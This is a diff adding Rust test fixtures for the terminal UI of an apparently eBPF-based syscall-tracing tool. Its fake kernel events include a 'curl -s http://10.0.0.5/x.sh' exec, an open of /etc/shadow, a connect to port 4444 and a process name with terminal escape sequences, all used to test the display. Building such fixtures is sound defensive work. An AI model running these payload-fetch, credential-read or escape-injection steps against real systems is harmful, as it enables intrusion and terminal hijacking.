@@ -1,0 +1,266 @@
+//! Test fixtures for the UI: a deterministic `AppState` built through `update`, and a text + style dump of a rendered screen.
+
+use std::fmt::Write as _;
+
+use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
+use ratatui::Terminal;
+use ratatui::backend::TestBackend;
+use ratatui::buffer::Buffer;
+use ratatui::style::{Color, Modifier};
+
+use crate::app::event::{
+    AggRow, Captured, CgroupInfo, CollectorState, CollectorStats, EventKind, KernelBatch, ProcInfo,
+    SysEvent,
+};
+use crate::app::{AppState, Event, update};
+use crate::collector::clock::WallClock;
+use crate::ui::keymap::Keymap;
+use crate::ui::render::render;
+use crate::ui::theme::Theme;
+
+/// Boot-clock time of the first fixture event.
+pub const T0: u64 = 5_000_000_000;
+/// The cgroup of the fixture's container.
+pub const CONTAINER_CGROUP: u64 = 7001;
+/// The fixture's container id (64 hex digits).
+pub const CONTAINER_ID: &str = "3f2a9c1b7d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4";
+/// A comm that would clear the screen and ring the bell if drawn raw.
+pub const EVIL_COMM: &[u8] = b"evil\x1b[2J\x07";
+/// `-100` as the probe passes it.
+const AT_FDCWD: u64 = -100i64 as u64;
+const NR_NONE: u32 = ktriage_common::NR_NONE;
+
+/// A clock that shows the fixture's first event at 22:13:25.000 UTC.
+pub fn clock() -> WallClock {
+    WallClock::with_offset(1_700_000_000_000_000_000)
+}
+
+/// A built-in theme (panics on a name that is not built in: tests only).
+pub fn theme(name: &str) -> Theme {
+    Theme::builtin(name).expect("built-in theme")
+}
+
+fn comm(name: &[u8]) -> [u8; 16] {
+    let mut c = [0u8; 16];
+    let n = name.len().min(15);
+    c[..n].copy_from_slice(&name[..n]);
+    c
+}
+
+fn buf(bytes: &[u8]) -> Captured {
+    Captured { bytes: bytes.to_vec(), truncated: false }
+}
+
+/// A syscall record with no buffers; fill in what the case needs.
+pub fn sys(ms: u64, pid: u32, name: &[u8], nr: u32, ret: i64) -> SysEvent {
+    SysEvent {
+        ts_ns: T0 + ms * 1_000_000 + 123_000,
+        cgroup_id: 1,
+        duration_ns: 2_000,
+        ret,
+        args: [0; 6],
+        kind: EventKind::Syscall,
+        nr,
+        pid,
+        tid: pid,
+        ppid: 4242,
+        uid: 0,
+        comm: comm(name),
+        bufs: [Captured::default(), Captured::default()],
+    }
+}
+
+fn sockaddr_in(ip: [u8; 4], port: u16) -> Vec<u8> {
+    let mut b = 2u16.to_ne_bytes().to_vec();
+    b.extend_from_slice(&port.to_be_bytes());
+    b.extend_from_slice(&ip);
+    b.extend_from_slice(&[0; 8]);
+    b
+}
+
+/// The fixture's kernel records: fork, exec with argv, connects, a denied
+/// open of /etc/shadow, the evil comm, an exit, some in a container.
+pub fn events() -> Vec<SysEvent> {
+    let mut v = Vec::new();
+    let mut fork = sys(0, 4242, b"bash", NR_NONE, 0);
+    fork.kind = EventKind::Fork;
+    fork.args[..2].copy_from_slice(&[4300, 4300]);
+    fork.ppid = 1;
+    v.push(fork);
+    let mut exec = sys(1, 4300, b"curl", 59, 0);
+    exec.kind = EventKind::Exec;
+    exec.bufs = [buf(b"/usr/bin/curl\0"), buf(b"curl\0-s\0http://10.0.0.5/x.sh\0")];
+    v.push(exec);
+    let mut connect = sys(3, 4300, b"curl", 42, 0);
+    connect.args[0] = 3;
+    connect.bufs[0] = buf(&sockaddr_in([127, 0, 0, 1], 8080));
+    v.push(connect);
+    let mut open = sys(7, 4301, b"cat", 257, -13);
+    open.args[0] = AT_FDCWD;
+    open.bufs[0] = buf(b"/etc/shadow\0");
+    v.push(open);
+    let mut evil = sys(12, 4302, EVIL_COMM, 257, 3);
+    evil.args[0] = AT_FDCWD;
+    evil.bufs[0] = buf(b"/tmp/.x\x1b]0;pwned\x07\0");
+    v.push(evil);
+    let mut refused = sys(20, 4300, b"curl", 42, -111);
+    refused.args[0] = 4;
+    refused.bufs[0] = buf(&sockaddr_in([10, 0, 0, 5], 4444));
+    v.push(refused);
+    let mut unlink = sys(25, 4300, b"curl", 87, -2);
+    unlink.bufs[0] = buf(b"/tmp/x.sh\0");
+    v.push(unlink);
+    let mut setuid = sys(31, 4302, EVIL_COMM, 105, -1);
+    setuid.uid = 1000;
+    v.push(setuid);
+    let mut exit = sys(40, 4301, b"cat", NR_NONE, 1 << 8);
+    exit.kind = EventKind::Exit;
+    exit.args[0] = 1;
+    v.push(exit);
+    for e in v.iter_mut().filter(|e| matches!(e.pid, 4300 | 4301)) {
+        e.cgroup_id = CONTAINER_CGROUP;
+    }
+    v
+}
+
+/// The fixture's aggregation rows (several processes, some errors).
+pub fn agg() -> Vec<AggRow> {
+    let row = |tgid, nr, calls, errors, time_ns| AggRow { tgid, nr, calls, errors, time_ns };
+    vec![
+        row(4300, 0, 120, 0, 2_400_000),
+        row(4300, 1, 40, 0, 900_000),
+        row(4300, 42, 2, 1, 150_000),
+        row(4300, 59, 1, 0, 450_000),
+        row(4301, 257, 30, 3, 600_000),
+        row(4301, 3, 35, 0, 70_000),
+        row(4302, 9, 12, 0, 96_000),
+        row(4302, 5, 20, 0, 40_000),
+        row(4302, 105, 1, 1, 3_000),
+        row(4242, 0, 60, 0, 1_200_000),
+    ]
+}
+
+/// The fixture's /proc snapshot.
+pub fn processes() -> Vec<ProcInfo> {
+    let p = |pid, ppid, uid, comm: &str, ctr: Option<&str>| ProcInfo {
+        pid,
+        ppid,
+        uid,
+        comm: comm.to_string(),
+        container_id: ctr.map(str::to_string),
+    };
+    vec![
+        p(1, 0, 0, "systemd", None),
+        p(812, 1, 0, "containerd", None),
+        p(990, 1, 0, "kubelet", None),
+        p(4242, 1, 1000, "bash", None),
+        p(4300, 4242, 0, "curl", Some(CONTAINER_ID)),
+        p(4301, 4242, 0, "cat", Some(CONTAINER_ID)),
+        p(4302, 1, 1000, &String::from_utf8_lossy(EVIL_COMM), None),
+    ]
+}
+
+/// A fresh state with the default keymap.
+pub fn empty_state() -> AppState {
+    AppState::with_keymap(Keymap::default())
+}
+
+/// The full fixture: events, summary, processes, stats, a rate, collector running.
+pub fn state() -> AppState {
+    let mut s = empty_state();
+    update(&mut s, Event::Tick(0));
+    update(&mut s, Event::Collector(CollectorState::Running));
+    let container = CgroupInfo {
+        id: CONTAINER_CGROUP,
+        path: Some(format!("/kubepods.slice/cri-containerd-{CONTAINER_ID}.scope")),
+        container_id: Some(CONTAINER_ID.to_string()),
+    };
+    let host = CgroupInfo { id: 1, path: Some("/".into()), container_id: None };
+    let batch = KernelBatch { cgroups: vec![host, container], events: events() };
+    update(&mut s, Event::Kernel(batch));
+    update(&mut s, Event::Summary(agg()));
+    update(&mut s, Event::Processes(processes()));
+    let stats = CollectorStats { attempted: 12, kernel_dropped: 3, received: 9, ..Default::default() };
+    update(&mut s, Event::Stats(stats));
+    update(&mut s, Event::Tick(1_000_000_000));
+    s
+}
+
+/// Presses the keys of `text` (plain characters, `\n` = enter, `\t` = tab).
+pub fn press(state: &mut AppState, text: &str) {
+    for c in text.chars() {
+        let code = match c {
+            '\n' => KeyCode::Enter,
+            '\t' => KeyCode::Tab,
+            c => KeyCode::Char(c),
+        };
+        update(state, Event::Key(KeyEvent::new(code, KeyModifiers::NONE)));
+    }
+}
+
+/// Renders `state` on a `width`×`height` test terminal.
+pub fn draw(state: &AppState, theme: &Theme, width: u16, height: u16) -> Terminal<TestBackend> {
+    let mut t = Terminal::new(TestBackend::new(width, height)).expect("test terminal");
+    let clock = clock();
+    t.draw(|f| render(f, state, theme, &clock)).expect("draw");
+    t
+}
+
+/// The screen as text (trailing blanks trimmed).
+pub fn text(buf: &Buffer) -> String {
+    let (w, h) = (buf.area.width, buf.area.height);
+    let mut out = String::new();
+    for y in 0..h {
+        let row: String = (0..w).map(|x| buf[(x, y)].symbol()).collect();
+        out.push_str(row.trim_end());
+        out.push('\n');
+    }
+    out
+}
+
+fn color(c: Color) -> String {
+    if c == Color::Reset { "-".into() } else { format!("{c:?}") }
+}
+
+/// Styles as runs of equal cells per row, `row: x0-x1 fg/bg/modifiers`;
+/// unstyled runs are left out.
+pub fn styles(buf: &Buffer) -> String {
+    let (w, h) = (buf.area.width, buf.area.height);
+    let mut out = String::new();
+    for y in 0..h {
+        let mut runs = Vec::new();
+        let mut x = 0;
+        while x < w {
+            let key = |x| {
+                let c = &buf[(x, y)];
+                (c.fg, c.bg, c.modifier)
+            };
+            let k = key(x);
+            let start = x;
+            while x < w && key(x) == k {
+                x += 1;
+            }
+            if k != (Color::Reset, Color::Reset, Modifier::empty()) {
+                let mods = if k.2.is_empty() { String::new() } else { format!("/{:?}", k.2) };
+                runs.push(format!("{start}-{} {}/{}{mods}", x - 1, color(k.0), color(k.1)));
+            }
+        }
+        if !runs.is_empty() {
+            let _ = writeln!(out, "{y:02}: {}", runs.join(", "));
+        }
+    }
+    out
+}
+
+/// Text, styles and cursor of a rendered screen, for snapshots.
+pub fn dump(t: &Terminal<TestBackend>) -> String {
+    let b = t.backend();
+    let mut out = text(b.buffer());
+    if b.cursor_visible() {
+        let p = b.cursor_position();
+        let _ = writeln!(out, "cursor: {},{}", p.x, p.y);
+    }
+    out.push_str("--- styles ---\n");
+    out.push_str(&styles(b.buffer()));
+    out
+}
